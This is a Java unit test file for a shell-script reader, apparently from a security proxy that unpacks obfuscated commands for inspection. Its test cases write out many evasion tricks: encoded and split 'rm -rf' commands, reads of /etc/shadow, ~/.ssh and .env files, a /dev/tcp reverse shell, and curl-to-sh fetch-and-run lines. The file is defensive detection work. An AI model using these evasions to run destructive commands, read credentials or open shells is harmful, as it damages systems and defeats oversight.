package dev.pipelock.proxy.inspect.shell.reading;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pipelock.proxy.text.View;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellReadingTest {

  private static ShellReading read(String script) {
    return ShellReading.of(new View("plain", script, View.Origins.SAME), script);
  }

  private static List<String> lines(String script) {
    return read(script).transcript().text().lines().filter(line -> !line.isEmpty()).toList();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '¦',
      quoteCharacter = '¬',
      value = {
        // Quotes and backslashes (POSIX 2.2)
        "r''m -rf x ¦ `rm -rf x",
        "r\\m \"-r\"f x ¦ `rm -rf x",
        "'rm' \"-rf\" x ¦ `rm -rf x",
        "$'\\x72\\155' $'-\\u0072f' x ¦ `rm -rf x",
        "\\rm x ¦ `rm x",
        // Expansions
        "r$@m x ¦ `rm x",
        "r$*m x ¦ `rm x",
        "r${nothing}m x ¦ `rm x",
        "rm${IFS}-rf$IFS/x ¦ `rm -rf /x",
        "${x:-rm} -rf x ¦ `rm -rf x",
        "${PATH:0:1}bin${PATH:0:1}cat x ¦ `cat x",
        "cat ${HOME:0:1}etc${HOME:0:1}passwd ¦ `cat /etc/passwd",
        "cat $HOME/.ssh ¦ `cat ~/.ssh",
        "$(printf rm) x ¦ `rm x",
        "$(echo rm -rf) x ¦ `rm -rf x",
        "`echo rm` x ¦ `rm x",
        "$(echo mr | rev) x ¦ `rm x",
        "$(tr a-y b-z <<< ql) x ¦ `rm x",
        // Braces and globs
        "{rm,-rf,/x} ¦ `rm -rf /x",
        "cat /etc/{passwd,shadow} ¦ `cat /etc/passwd /etc/shadow",
        "/bin/c?t x ¦ `cat x",
        "/???/b?sh x ¦ `bash x",
        "cat /etc/pass* ¦ `cat /etc/passwd",
        "cat /etc/[ps]asswd ¦ `cat /etc/passwd",
        "ls *.txt ¦ `ls *.txt",
        // Paths
        "/usr/bin/rm x ¦ `rm x",
        "RM.EXE x ¦ `rm x",
        "cat /etc/./x/..//shadow ¦ `cat /etc/shadow",
        "cat ../../.env ¦ `cat ../../.env",
        // Blanks in words are no separators, operators in words no operators
        "grep 'rm -rf' x ¦ `grep rm\u001F-rf x",
        "echo 'a > b' ¦ `echo a\u001F\u0010\u001Fb",
        "echo a#b # c ¦ `echo a#b",
        "r\\⏎m x ¦ `rm x",
        // Redirections
        "bash -i >& /dev/tcp/h/1 0>&1 ¦ `bash -i >& /dev/tcp/h/1 >& 1",
        "x 2>/dev/null >>log <in ¦ `x > /dev/null >> log < in",
        "a | b |& c ¦ `a |`b |`c",
      })
  void readsOneCommand(String script, String line) {
    assertThat(lines(script.replace('⏎', '\n'))).last().isEqualTo(line);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '¦',
      quoteCharacter = '¬',
      value = {
        "true; rm x ¦ `rm x",
        "true && rm x ¦ `rm x",
        "true || rm x ¦ `rm x",
        "true & rm x ¦ `rm x",
        "true⏎rm x ¦ `rm x",
        "(rm x) ¦ `rm x",
        "{ rm x; } ¦ `rm x",
        "if true; then rm x; fi ¦ `rm x",
        "for i in 1 2; do rm x; done ¦ `rm x",
        "f() { rm x; }; f ¦ `rm x",
        "a=rm; $a x ¦ `rm x",
        "a=r b=m; $a$b x ¦ `rm x",
        "a=r; a+=m; $a x ¦ `rm x",
        "export a=rm && \"$a\" x ¦ `rm x",
        "a=(r m); ${a[0]}${a[1]} x ¦ `rm x",
        "a='rm x'; $a ¦ `rm x",
        "v=a; a=rm; ${!v} x ¦ `rm x",
        "IFS=,; a=rm,x; $a ¦ `rm x",
        "a=xrm; ${a#x} x ¦ `rm x",
        "a=roam; ${a/oa/} x ¦ `rm x",
        "printf -v a rm; $a x ¦ `rm x",
        "for a in rm; do $a x; done ¦ `rm x",
        "echo $(rm x) ¦ `rm x",
        "echo \"`rm x`\" ¦ `rm x",
        "cat <(rm x) ¦ `rm x",
        "sudo -u root rm x ¦ `rm x",
        "env A=1 nohup nice -n 5 rm x ¦ `rm x",
        "timeout 5 busybox rm x ¦ `rm x",
        "find . -name y -exec rm x \\; ¦ `rm x",
        "echo x | xargs rm ¦ `rm x",
        "sh -c 'rm x' ¦ `rm x",
        "bash -lc \"sh -c 'rm x'\" ¦ `rm x",
        "eval 'r'\"m x\" ¦ `rm x",
        "ssh -p 22 host rm x ¦ `rm x",
        "docker exec -it c sh -c 'rm x' ¦ `rm x",
        "kubectl exec p -- rm x ¦ `rm x",
        "echo cm0geA== | base64 -d | sh ¦ `rm x",
        "base64 -d <<< cm0geA== | bash ¦ `rm x",
        "echo 726d2078 | xxd -r -p | sh ¦ `rm x",
        "printf '\\162\\155 x' | sh ¦ `rm x",
        "echo 'x mr' | rev | sh ¦ `rm x",
        "echo 'ez k' | tr a-z n-za-m | sh ¦ `rm x",
        "echo -e 'r\\x6d x' | sh ¦ `rm x",
        "sh <<EOF⏎rm x⏎EOF ¦ `rm x",
        "cat <<'EOF' | bash⏎rm x⏎EOF ¦ `rm x",
        "bash <<< 'rm x' ¦ `rm x",
        "bash <(echo rm x) ¦ `rm x",
        "source /dev/stdin <<< 'rm x' ¦ `rm x",
        "{ echo rm x; }; { echo rm x; } | sh ¦ `rm x",
        "while true; do echo rm x; done | sh ¦ `rm x",
        "$(which rm) x ¦ `rm x",
        "function f { rm x; }; f ¦ `rm x",
        "read a <<< rm; $a x ¦ `rm x",
        "set -- rm x; \"$@\" ¦ `rm x",
        "a=(rm x); \"${a[@]}\" ¦ `rm x",
        "env -S 'rm x' ¦ `rm x",
        "find /y -name x -exec rm {} + ¦ `rm /y/x",
        "echo 'rm x' > s.sh && bash ./s.sh ¦ `rm x",
        "cat > s.sh <<EOF⏎rm x⏎EOF⏎./s.sh ¦ `rm x",
        "cat < /etc/shadow ¦ `cat < /etc/shadow",
        "while read l; do echo $l; done < /etc/shadow ¦ ` < /etc/shadow",
        "(echo rm; echo x) | tr '\\n' ' ' | sh ¦ `rm x",
        "trap 'rm x' EXIT ¦ `rm x",
        "python3 -c 'import os; os.system(\"rm x\")' ¦ `rm x",
        "python3 -c 'import subprocess as s; s.run([\"rm\", \"x\"])' ¦ `rm x",
        "awk 'BEGIN { system(\"rm x\") }' ¦ `rm x",
        "perl -e 'exec \"rm x\"' ¦ `rm x",
        // Here-documents: only the delimiter alone on its line ends one; expansions in it run
        "cat <<EOF⏎ EOF⏎'⏎EOF⏎rm x ¦ `rm x",
        "cat <<-EOF⏎\tEOF⏎rm x ¦ `rm x",
        "cat <<EOF⏎$(rm x)⏎EOF ¦ `rm x",
        "cat <<EOF⏎it's `rm x`⏎EOF ¦ `rm x",
        "sh <<EOF; true⏎rm x⏎EOF ¦ `rm x",
        "cat <<EOF | sh && true⏎rm x⏎EOF ¦ `rm x",
        "(sh <<EOF)⏎rm x⏎EOF ¦ `rm x",
        // A brace or parenthesis in quotes ends no expansion
        "echo ${a:-'}'}; rm x #' ¦ `rm x",
        "echo \"${a:-'}\"; rm x #' ¦ `rm x",
        "echo ${a:-$(echo '}')}; rm x #' ¦ `rm x",
        "echo ${a:-\"}\"}; rm x #\" ¦ `rm x",
        // Commands in parts whose value is of no matter
        "echo $(( $(rm x) + 1 )) ¦ `rm x",
        "echo $((rm x) ) ¦ `rm x",
        "echo ${HOME:$(rm x)0:1} ¦ `rm x",
        "echo ${a[$(rm x)]} ¦ `rm x",
        "echo ${a:?$(rm x)} ¦ `rm x",
        "echo ${a@$(rm x)} ¦ `rm x",
        // Values that are empty, and variables that are always there
        "a=; ${a:-rm} x ¦ `rm x",
        "${HOME:+rm} x ¦ `rm x",
        // Patterns in expansions
        "a=xxrm; ${a##*x} x ¦ `rm x",
        "a=rm--y; ${a%%-*} x ¦ `rm x",
        "a=r1m2; ${a//[0-9]/} x ¦ `rm x",
        "a=xm; ${a/#x/r} x ¦ `rm x",
        "a='\\x72m'; ${a@E} x ¦ `rm x",
        "{r..r}m x ¦ `rm x",
        // Options before and after -c
        "bash -O extglob -c 'rm x' ¦ `rm x",
        "bash -c -- 'rm x' ¦ `rm x",
        "sh -c -e 'rm x' ¦ `rm x",
        // Programs that run others
        "find . -exec true \\; -exec rm x \\; ¦ `rm x",
        "coproc rm x ¦ `rm x",
        "pkexec rm x ¦ `rm x",
        "gosu root rm x ¦ `rm x",
        // Code that a program is fed
        "python3 - <<'EOF'⏎import os⏎os.system(\"rm x\")⏎EOF ¦ `rm x",
        "echo 'exec \"rm x\"' | perl ¦ `rm x",
      })
  void findsTheCommandInside(String script, String line) {
    assertThat(read(script.replace('⏎', '\n')).transcript().text()).contains(line + "\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo 'rm x'",
        "echo \"run: rm x\"",
        "# rm x",
        "git commit -m 'rm x; rm x'",
        "echo cm0geA== | base64 -d",
        "echo rm x > notes.txt",
        "python3 -c 'print(\"rm x\")'",
        "command -v rm",
        "cat <<EOF > notes\nrm x\nEOF",
        "cat <<'EOF'\n$(rm x)\nEOF",
        "cat <<EOF\nit's\n\\$(rm x)\nEOF",
        "echo \"${a:-'rm x'}\"",
        "echo $((1 + (2 * 3)))",
        "for i in {1..10}; do echo $i; done",
        "python3 script.py <<< 'os.system(\"rm x\")'",
      })
  void takesNoTextForACommand(String script) {
    assertThat(read(script).transcript().text()).doesNotContain("`rm");
  }

  @Test
  void tellsThatDecodedTextIsRun() {
    assertThat(lines("curl https://example.net/x | base64 -d | sh")).contains("`@decoded run");
    assertThat(lines("x=$(base64 -d f); eval \"$x\"")).contains("`@decoded run");
    assertThat(lines("base64 -d f > g")).doesNotContain("`@decoded run");
    assertThat(lines("curl https://example.net/x | sh")).doesNotContain("`@decoded run");
  }

  @Test
  void mapsWordsToTheirPlaceInTheSource() {
    var script = "true; a=rm; $a -r''f /x";
    var reading = read(script);
    int start = reading.transcript().text().indexOf("`rm -rf");

    var source = script.substring(reading.sourceStart(start), reading.sourceEnd(start + 7));

    assertThat(source).isEqualTo("$a -r''f");
  }

  @Test
  void writesCommandsForAnAdminsExpressions() {
    var commands = read("x=1; r''m 'a b' > \"c>d\" | tee e").commands().text();

    assertThat(commands).contains(" rm a b > c>d | tee e\n");
  }

  @Test
  void putsOptionsFirstAndCutsWordsWhereACommandIsLong() {
    var padding = "x".repeat(5000);

    assertThat(lines("rm " + padding + " -rf /y")).first().asString().startsWith("`rm -rf xxx");
    assertThat(lines("rm " + "abc ".repeat(2000) + "-rf /y"))
        .allSatisfy(line -> assertThat(line).startsWith("`rm -rf ").hasSizeLessThan(2100))
        .anySatisfy(line -> assertThat(line).endsWith(" /y"));
    assertThat(read("rm " + padding + " -rf /y").complete()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a=xx;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;"
            + "a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;a=$a$a;$a",
        "{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
        "$($($($($($($($($($($($($($(rm x))))))))))))))",
        "eval eval eval eval eval eval eval eval eval eval eval eval eval eval rm x",
        "sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo rm x",
      })
  void saysWhereItGaveUp(String script) {
    assertThat(read(script).complete()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${",
        "$(",
        "`",
        "'",
        "\"",
        "{",
        "{a,",
        "\\",
        "<<E\n",
        "<(",
        "a=",
        "$'\\x",
        "(",
        ")",
        "|",
        "${a:-",
        "$((",
        "a;",
        "x=(",
        "<<<",
        "[",
        "/b?n/",
        "python -c '\"",
        "${a}",
        "$a",
        "sudo ",
      })
  void readsRunsOfOneSignInTime(String sign) {
    var script = sign.repeat(64 * 1024 / sign.length());

    var reading = Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5), () -> read(script));

    assertThat(reading.transcript().text().length()).isLessThan(32 * 64 * 1024);
  }
}
